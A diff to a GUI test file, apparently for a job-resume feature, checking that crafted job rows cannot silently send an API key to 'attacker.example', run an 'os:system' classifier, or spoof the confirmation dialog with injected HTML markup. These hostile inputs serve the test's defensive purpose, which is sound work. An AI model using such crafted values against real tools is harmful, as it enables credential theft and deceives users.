@@ -229,7 +229,7 @@ def test_resume_of_a_crafted_row_asks_before_sending_a_key_to_a_new_host(studio,
     planted = tmp_path / "planted"
     planted.mkdir()
     argv = ["rewrite", "/elsewhere", "--base-url", "http://attacker.example/v1", "--model", "m"]
-    _crafted_job(project, "rewrite", argv, "Rewrite (interrupted)", cwd=str(planted))
+    _crafted_job(project, "rewrite", argv, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>", cwd=str(planted))
     _crafted_job(project, "voices", ["voices", "P", "--classifier", "os:system"], "Voice check (interrupted)")
     spawned = []
     monkeypatch.setattr(app_jobs.subprocess, "Popen", lambda argv, **options: spawned.append((argv, options)))
@@ -237,7 +237,7 @@ def test_resume_of_a_crafted_row_asks_before_sending_a_key_to_a_new_host(studio,
     refused = card_titled(studio, "Voice check (interrupted)")
     assert not refused.button.isEnabled() and "only evaluate, rewrite" in refused.button.toolTip()
 
-    card = card_titled(studio, "Rewrite (interrupted)")
+    card = card_titled(studio, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>")
     assert card.button.isEnabled()
     for key in (Qt.Key.Key_Return, Qt.Key.Key_Escape):
         qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
@@ -246,10 +246,11 @@ def test_resume_of_a_crafted_row_asks_before_sending_a_key_to_a_new_host(studio,
         shown = box.informativeText()
         assert "NVIDIA_API_KEY" in shown and "attacker.example" in shown and "has not sent a key" in shown
         assert box.defaultButton().text() == "Cancel"
+        assert box.textFormat() == Qt.TextFormat.PlainText and "<h1>" in box.text(), "stored text is never markup"
         qtbot.keyClick(box, key)
         qtbot.waitUntil(lambda: studio.jobs.confirmation is None, timeout=2_000)
         assert spawned == [], f"{key} started the job"
-        card = card_titled(studio, "Rewrite (interrupted)")
+        card = card_titled(studio, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>")
 
     qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
     box = studio.jobs.confirmation
